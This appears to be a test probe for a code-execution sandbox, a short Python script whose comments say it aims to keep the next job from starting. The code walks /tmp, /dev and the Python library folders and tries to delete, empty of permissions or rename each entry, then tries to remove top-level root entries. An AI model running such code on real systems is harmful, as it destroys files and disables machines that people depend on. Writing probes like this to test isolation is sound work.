# tries: to delete what it sees, the sandbox's own script and the interpreter
# success: the next job does not start
# seen by: the next job
import os

seen = 0
for top in ("/tmp", "/dev", "/usr/lib/python3.11", "/usr/lib/python3"):
    for folder, folders, files in os.walk(top):
        for name in files[:20] + folders[:5]:
            path = os.path.join(folder, name)
            for remove in (os.unlink, os.rmdir, lambda p: os.chmod(p, 0), lambda p: os.rename(p, p + "x")):
                try:
                    remove(path)
                    seen += 1
                except OSError:
                    pass
for name in os.listdir("/"):
    try:
        os.unlink("/" + name)
        seen += 1
    except OSError:
        pass
print(seen)
